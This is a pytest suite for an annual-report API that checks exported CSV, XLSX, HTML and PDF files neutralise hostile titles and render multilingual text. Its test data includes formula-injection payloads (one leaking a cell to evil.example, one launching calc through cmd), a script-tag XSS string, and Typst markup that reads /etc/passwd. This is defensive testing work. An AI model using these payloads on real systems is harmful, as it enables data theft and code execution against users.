"""Hostile and unusual text in the report's formats: formulas stay text, markup stays text,
any script renders in the PDF."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from app.reports.render import spreadsheet_safe
from tests.support.factories import ApiFactory
from tests.support.reports import sheet_of

REPORT = "/api/v1/reports/annual"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def _get(api: ApiFactory, fmt: str, **params: str) -> bytes:
    year = datetime.now(UTC).year
    response = api.client.get(
        REPORT, params={"year": year, "format": fmt, **params}, headers=api.staff
    )
    assert response.status_code == 200, response.text
    return response.content


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected  # type: ignore[arg-type]


def test_formulas_in_titles_stay_text_in_csv_and_xlsx(api: ApiFactory) -> None:
    for title in HOSTILE:
        api.request("KAZ", status="open", consent_to_publish=True, title=title)
    report = api.client.get(
        REPORT, params={"year": datetime.now(UTC).year}, headers=api.staff
    ).json()
    published = next(t for t in report["tables"] if t["name"] == "published_requests")
    assert sorted(row[1] for row in published["rows"]) == sorted(HOSTILE), "JSON keeps the text"

    single = _get(api, "csv", table="published_requests").decode("utf-8-sig")
    titles = [row[1] for row in csv.reader(io.StringIO(single))][1:]
    assert sorted(titles) == sorted("'" + t for t in HOSTILE)
    archive = zipfile.ZipFile(io.BytesIO(_get(api, "csv")))
    member = next(n for n in archive.namelist() if n.endswith("-published_requests.csv"))
    assert archive.read(member).decode("utf-8-sig") == single

    workbook = load_workbook(io.BytesIO(_get(api, "xlsx")))
    cells = [row[1] for row in sheet_of(workbook, "published_requests").iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted("'" + t for t in HOSTILE)
    assert {c.data_type for c in cells} == {"s"}, "no cell is a formula"


def test_markup_in_titles_is_escaped_in_html(api: ApiFactory) -> None:
    api.request(
        "KAZ", status="open", consent_to_publish=True, title="<script>alert('x')</script> & co"
    )
    page = _get(api, "html").decode()
    assert "<script" not in page
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; co" in page


def test_pdf_renders_titles_in_any_script_and_typst_markup_as_text(api: ApiFactory) -> None:
    """The PDF's template reads the report as data: a title written in Typst's markup or code
    prints as typed, it neither runs nor styles anything."""
    from pypdf import PdfReader

    titles = (
        "Создание национального механизма",
        "国家防范机制",
        "Côte d'Ivoire: ÉDUCATION",
        '#panic("injected") *bold* _em_ $x^2$',
        '] #read("/etc/passwd") [ <label> @ref `raw` \\ // no comment',
    )
    for title in titles:
        api.request("KAZ", status="open", consent_to_publish=True, title=title)
    api.activity("KAZ", consent_to_publish=True, title="Séminaire « contrôle »")
    content = _get(api, "pdf")
    assert content.startswith(b"%PDF-")
    extracted = "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    text = "".join(c for c in extracted if c.isprintable() and not c.isspace())
    for title in (*titles, "Séminaire « contrôle »"):
        assert "".join(title.split()) in text, title
    workbook = load_workbook(io.BytesIO(_get(api, "xlsx")))
    titles = [r[1] for r in sheet_of(workbook, "published_activities").iter_rows(values_only=True)]
    assert "Séminaire « contrôle »" in titles


def test_an_empty_year_renders_in_every_format(api: ApiFactory) -> None:
    for fmt in ("json", "csv", "xlsx", "html", "pdf"):
        assert _get(api, fmt, year="2008")


def test_pdf_tables_never_cut_a_word_and_show_statuses_by_name(api: ApiFactory) -> None:
    """Every column is at least as wide as its longest word and no line breaks after a hyphen,
    so that wrapping happens between words ("Kazakhst/an", "Statu/s", "2025-/10-01" before);
    statuses read "In progress", not `in_progress`."""
    from pypdf import PdfReader

    year = datetime.now(UTC).year
    providers = [
        api.organization(name=name)["id"]
        for name in ("OHCHR Regional Office for Central Asia", "UNDP Istanbul Regional Hub")
    ]
    long = {
        "title": "Workshop on OPCAT for the Ombudsman's staff-members: self-assessment, follow-up "
        * 3,
        "provider_ids": providers,
        "themes": ["children-general", "administration-of-justice", "civil-political-rights"],
        "period_start": f"{year}-10-01",
        "period_end": f"{year}-10-02",
        "consent_to_publish": True,
        "status": "ongoing",
    }
    api.activity("BOL", **long)
    api.activity("KAZ", title="Short", status="completed", consent_to_publish=True)
    published = next(
        t
        for t in api.client.get(REPORT, params={"year": year}, headers=api.staff).json()["tables"]
        if t["name"] == "published_activities"
    )
    reader = PdfReader(io.BytesIO(_get(api, "pdf")))
    lines = [line for page in reader.pages for line in page.extract_text().splitlines()]
    words = {word for line in lines for word in line.split()}
    cells = [value for row in published["rows"] for value in row if value]
    assert "Bolivia (Plurinational State of)" in cells
    for value in cells:
        if value not in ("ongoing", "completed"):
            assert set(value.split()) <= words, (value, lines)
    assert "Ongoing" in words
    assert any(line.startswith("Kazakhstan Short Completed") for line in lines), lines


@pytest.mark.parametrize(
    ("lang", "country", "region", "theme", "dir_"),
    [
        ("ar", "كازاخستان", "آسيا", "حظر التعذيب", "rtl"),
        ("zh", "哈萨克斯坦", "亚洲", "禁止酷刑", "ltr"),
    ],
)
def test_the_report_in_arabic_and_chinese(
    api: ApiFactory, lang: str, country: str, region: str, theme: str, dir_: str
) -> None:
    """Every format follows the chosen language: the labels come from the six-language reference
    data, the PDF draws both scripts (system Noto fonts, shaped) and the XLSX reads right to left
    in Arabic."""
    from pypdf import PdfReader

    api.request("KAZ", status="open", consent_to_publish=True, title="Training", themes=["torture"])
    report = api.client.get(
        REPORT,
        params={"year": datetime.now(UTC).year, "language": lang},
        headers=api.staff,
    ).json()
    assert report["language"] == lang
    published = next(t for t in report["tables"] if t["name"] == "published_requests")
    assert published["keys"][0] == "State"
    assert published["columns"][0] != "State"
    assert published["rows"][0][0] == country
    by_region = next(t for t in report["tables"] if t["name"] == "by_region")
    assert region in [row[0] for row in by_region["rows"]]

    workbook = load_workbook(io.BytesIO(_get(api, "xlsx", language=lang)))
    sheet = sheet_of(workbook, "published_requests", about=workbook.sheetnames[0])
    cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
    assert country in cells
    assert any(theme in str(c) for c in cells)
    assert sheet.sheet_view.rightToLeft is (dir_ == "rtl")

    pdf = PdfReader(io.BytesIO(_get(api, "pdf", language=lang)))
    # pypdf may put spaces or NULs between glyphs drawn one by one (CJK): compare without them.
    # Arabic is written as the standard says (ISO 32000-1, 14.8.2.3.3): each word's letters in a
    # /ReversedChars run, the words placed right to left; pypdf reads each word the right way
    # round but the words of a line in the order they are drawn: compare word by word.
    extracted = "".join(page.extract_text() for page in pdf.pages)
    text = "".join(c for c in extracted if c.isprintable() and not c.isspace())
    assert country in text
    if dir_ == "rtl":
        assert all(word in text for word in theme.split())
    else:
        assert "".join(theme.split()) in text

    page = _get(api, "html", language=lang).decode()
    assert f'<html lang="{lang}" dir="{dir_}">' in page
    assert country in page


@pytest.mark.parametrize("lang", ["fr", "es", "ru", "ar", "zh"])
def test_every_title_and_note_is_translated_also_those_naming_the_year(
    api: ApiFactory, lang: str
) -> None:
    """A table's title or note that names the report's year is translated with the year as a
    placeholder: it must not stay in English."""
    year = datetime.now(UTC).year

    def tables(language: str) -> list[dict[str, str]]:
        params = {"year": year, "language": language}
        return list(api.client.get(REPORT, params=params, headers=api.staff).json()["tables"])

    english, translated = tables("en"), tables(lang)
    assert any(str(year) in table["note"] for table in english)
    for source, target in zip(english, translated, strict=True):
        for field in ("title", "note"):
            if source[field]:
                assert target[field] != source[field], (lang, field, source[field])
                if str(year) in source[field]:
                    assert str(year) in target[field], (lang, target[field])


def test_the_report_language_is_checked(api: ApiFactory) -> None:
    response = api.client.get(
        REPORT, params={"year": datetime.now(UTC).year, "language": "xx"}, headers=api.staff
    )
    assert response.status_code == 422
    # without the parameter, the request's Accept-Language chooses
    body = api.client.get(
        REPORT,
        params={"year": datetime.now(UTC).year},
        headers={**api.staff, "Accept-Language": "ru"},
    ).json()
    assert body["language"] == "ru"
